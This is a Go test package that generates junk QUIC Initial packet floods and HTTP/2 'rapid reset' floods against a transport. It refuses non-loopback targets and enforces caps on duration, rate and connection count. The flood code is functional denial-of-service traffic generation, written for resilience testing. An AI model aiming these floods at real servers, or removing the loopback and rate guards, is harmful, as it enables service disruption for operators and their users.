// Package flood generates the two anonymous floods the transport must
// withstand, on the wire, for tests: junk QUIC Initial packets and HTTP/2
// "rapid reset" (HEADERS then RST_STREAM at once) over TLS without a client
// certificate. Both refuse any target that is not a loopback address, and
// both stop by themselves at their duration and count bounds.
package flood

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Hard bounds, whatever the caller asks.
const (
	MaxDuration = 10 * time.Minute
	MaxRate     = 100_000 // datagrams per second
	MaxConns    = 2_000   // concurrent connections
	MaxSources  = 250     // loopback source addresses 127.0.0.2 ...
)

// Stats is what a flood did.
type Stats struct {
	Datagrams  int64 // QUIC: datagrams sent
	Conns      int64 // H2: connections whose TLS handshake succeeded
	ConnErrors int64 // H2: connection attempts or handshakes that failed
	Closed     int64 // H2: established connections the server closed
	Streams    int64 // H2: HEADERS frames written
	Resets     int64 // H2: RST_STREAM frames written
	Elapsed    time.Duration
}

func (s Stats) String() string {
	return fmt.Sprintf("datagrams=%d conns=%d conn_errors=%d closed=%d streams=%d resets=%d elapsed=%s",
		s.Datagrams, s.Conns, s.ConnErrors, s.Closed, s.Streams, s.Resets, s.Elapsed.Round(time.Millisecond))
}

// loopbackTarget resolves target and refuses anything but loopback.
func loopbackTarget(network, target string) (netip.AddrPort, error) {
	ap, err := netip.ParseAddrPort(target)
	if err != nil {
		return ap, fmt.Errorf("flood: target %q: %w", target, err)
	}
	if !ap.Addr().IsLoopback() {
		return ap, fmt.Errorf("flood: target %s is not a loopback address", target)
	}
	return ap, nil
}

// sourceAddr returns the i-th source address for a target: 127.0.0.(2+i)
// for IPv4 (all of 127/8 is loopback on Linux), ::1 for IPv6.
func sourceAddr(target netip.AddrPort, i, n int) netip.Addr {
	if n <= 0 || !target.Addr().Is4() {
		return netip.Addr{}
	}
	return netip.AddrFrom4([4]byte{127, 0, 0, byte(2 + i%n)}) // #nosec G115 -- both callers keep i < MaxSources (250), so 2+i%n <= 251
}

func bound(d time.Duration) (time.Duration, error) {
	if d <= 0 || d > MaxDuration {
		return 0, fmt.Errorf("flood: duration %s out of (0, %s]", d, MaxDuration)
	}
	return d, nil
}

// QUICInitials sends UDP datagrams that look like QUIC v1 Initial packets
// with random contents: first byte 0xC0 with random low bits (long header,
// fixed bit, type Initial), version 1, a new random 8 to 20 byte
// destination connection id in every datagram, a random source connection
// id, an empty token, a length that matches the rest, and random payload.
// No such packet decrypts, but each one parses as the start of a new
// connection.
type QUICInitials struct {
	Target   string        // host:port, loopback only
	Rate     int           // datagrams per second
	Duration time.Duration // how long to send
	Size     int           // datagram size; 0 means 1200
	Sources  int           // source addresses 127.0.0.2 ...; 0 means one socket on the default address
}

// Run sends until Duration has passed or ctx is done.
func (q QUICInitials) Run(ctx context.Context) (Stats, error) {
	var st Stats
	target, err := loopbackTarget("udp", q.Target)
	if err != nil {
		return st, err
	}
	d, err := bound(q.Duration)
	if err != nil {
		return st, err
	}
	if q.Rate <= 0 || q.Rate > MaxRate {
		return st, fmt.Errorf("flood: rate %d out of (0, %d]", q.Rate, MaxRate)
	}
	size := q.Size
	if size == 0 {
		size = 1200
	}
	if size < 64 || size > 1500 {
		return st, fmt.Errorf("flood: size %d out of [64, 1500]", size)
	}
	nsrc := min(max(q.Sources, 1), MaxSources)
	socks := make([]*net.UDPConn, nsrc)
	for i := range socks {
		var laddr *net.UDPAddr
		if src := sourceAddr(target, i, q.Sources); src.IsValid() {
			laddr = net.UDPAddrFromAddrPort(netip.AddrPortFrom(src, 0))
		}
		c, err := net.DialUDP("udp", laddr, net.UDPAddrFromAddrPort(target))
		if err != nil {
			for _, s := range socks[:i] {
				s.Close()
			}
			return st, fmt.Errorf("flood: %w", err)
		}
		c.SetWriteBuffer(4 << 20)
		socks[i] = c
	}
	defer func() {
		for _, s := range socks {
			s.Close()
		}
	}()
	ctx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	start := time.Now()
	buf := make([]byte, size)
	var sent int64
	// total is the flood's whole budget: a sender that falls behind (a
	// starved machine) catches up to the rate but never sends more than
	// Rate × Duration, however late it stops.
	total := int64(d.Seconds() * float64(q.Rate))
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
		case <-tick.C:
		}
		if ctx.Err() != nil || sent >= total {
			st.Datagrams, st.Elapsed = sent, time.Since(start)
			return st, nil
		}
		due := min(int64(time.Since(start).Seconds()*float64(q.Rate)), total)
		for ; sent < due; sent++ {
			junkInitial(buf)
			// Errors (ECONNREFUSED from an earlier ICMP, a full buffer)
			// are part of flooding; keep going.
			socks[int(sent)%nsrc].Write(buf)
		}
	}
}

// junkInitial fills b with a QUIC v1 long-header Initial of random content.
func junkInitial(b []byte) {
	rand.Read(b)
	b[0] = 0xC0 | b[0]&0x0F // long header, fixed bit, Initial, random reserved/PN-length bits
	binary.BigEndian.PutUint32(b[1:5], 1)
	i := 5
	dcid := 8 + int(b[i+1])%13 // 8..20
	b[i] = byte(dcid)          // #nosec G115 -- 8..20, see the line above
	i += 1 + dcid
	scid := int(b[i+1]) % 21 // 0..20
	b[i] = byte(scid)        // #nosec G115 -- 0..20, see the line above
	i += 1 + scid
	b[i] = 0 // token length
	i++
	// Length (2-byte varint) covers packet number and payload: the rest.
	rest := len(b) - i - 2
	binary.BigEndian.PutUint16(b[i:], 0x4000|uint16(rest)) // #nosec G115 -- rest is the remainder of a small test packet, < 0x4000
}

// H2RapidReset opens Conns TLS connections without a client certificate,
// each sending the HTTP/2 preface and SETTINGS and then, in a loop, HEADERS
// for Path immediately followed by RST_STREAM(CANCEL) on the same stream,
// never reading a response. When the server closes a connection, a new one
// replaces it, until Duration has passed.
type H2RapidReset struct {
	Target   string        // host:port, loopback only
	TLS      *tls.Config   // client config (no certificate); NextProtos is set to h2
	Conns    int           // concurrent connections
	Duration time.Duration // how long to flood
	Path     string        // request path; "/" if empty
	Sources  int           // source addresses 127.0.0.2 ...; 0 means the default address
	// PairsPerWrite is how many HEADERS+RST_STREAM pairs go out in one
	// write; 0 means 16.
	PairsPerWrite int
}

// Run floods until Duration has passed or ctx is done, then closes every
// connection.
func (h H2RapidReset) Run(ctx context.Context) (Stats, error) {
	var st Stats
	target, err := loopbackTarget("tcp", h.Target)
	if err != nil {
		return st, err
	}
	d, err := bound(h.Duration)
	if err != nil {
		return st, err
	}
	if h.Conns <= 0 || h.Conns > MaxConns {
		return st, fmt.Errorf("flood: conns %d out of (0, %d]", h.Conns, MaxConns)
	}
	if h.TLS == nil {
		return st, errors.New("flood: no TLS config")
	}
	tc := h.TLS.Clone()
	tc.NextProtos = []string{"h2"}
	tc.Certificates, tc.GetClientCertificate = nil, nil
	path := h.Path
	if path == "" {
		path = "/"
	}
	pairs := h.PairsPerWrite
	if pairs <= 0 {
		pairs = 16
	}
	ctx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	start := time.Now()
	var conns, connErrs, closed, streams, resets atomic.Int64
	var wg sync.WaitGroup
	for i := range h.Conns {
		var laddr net.Addr
		if src := sourceAddr(target, i, min(h.Sources, MaxSources)); src.IsValid() {
			laddr = net.TCPAddrFromAddrPort(netip.AddrPortFrom(src, 0))
		}
		wg.Go(func() {
			dialer := &tls.Dialer{NetDialer: &net.Dialer{LocalAddr: laddr, Timeout: 5 * time.Second}, Config: tc}
			for ctx.Err() == nil {
				c, err := dialer.DialContext(ctx, "tcp", target.String())
				if err != nil {
					connErrs.Add(1)
					// Refused or reset by a limit: try again a little later.
					select {
					case <-ctx.Done():
					case <-time.After(10 * time.Millisecond):
					}
					continue
				}
				conns.Add(1)
				n, r := rapidReset(ctx, c, path, pairs)
				streams.Add(n)
				resets.Add(r)
				if ctx.Err() == nil {
					closed.Add(1)
				}
			}
		})
	}
	wg.Wait()
	st.Conns, st.ConnErrors, st.Closed = conns.Load(), connErrs.Load(), closed.Load()
	st.Streams, st.Resets, st.Elapsed = streams.Load(), resets.Load(), time.Since(start)
	return st, nil
}

// rapidReset runs the HEADERS/RST_STREAM loop on one connection until the
// server closes it or ctx ends. Responses are read and discarded so that
// the server's writes never block on us.
func rapidReset(ctx context.Context, c net.Conn, path string, pairs int) (headers, resets int64) {
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	go func() {
		buf := make([]byte, 32<<10)
		for {
			if _, err := c.Read(buf); err != nil {
				c.Close()
				return
			}
		}
	}()
	var hb []byte
	{
		var b bytesBuffer
		enc := hpack.NewEncoder(&b)
		for _, f := range []hpack.HeaderField{
			{Name: ":method", Value: "POST"},
			{Name: ":scheme", Value: "https"},
			{Name: ":authority", Value: "localhost"},
			{Name: ":path", Value: path},
			{Name: "content-type", Value: "application/grpc"},
			{Name: "te", Value: "trailers"},
		} {
			enc.WriteField(f)
		}
		hb = b
	}
	var out bytesBuffer
	fr := http2.NewFramer(&out, nil)
	out = append(out, http2.ClientPreface...)
	fr.WriteSettings()
	if _, err := c.Write(out); err != nil {
		return 0, 0
	}
	id := uint32(1)
	for ctx.Err() == nil {
		out = out[:0]
		for range pairs {
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb, EndHeaders: true})
			fr.WriteRSTStream(id, http2.ErrCodeCancel)
			id += 2
		}
		if _, err := c.Write(out); err != nil {
			return headers, resets
		}
		headers += int64(pairs)
		resets += int64(pairs)
		if id > 1<<30 {
			return headers, resets
		}
	}
	return headers, resets
}

type bytesBuffer []byte

func (b *bytesBuffer) Write(p []byte) (int, error) {
	*b = append(*b, p...)
	return len(p), nil
}
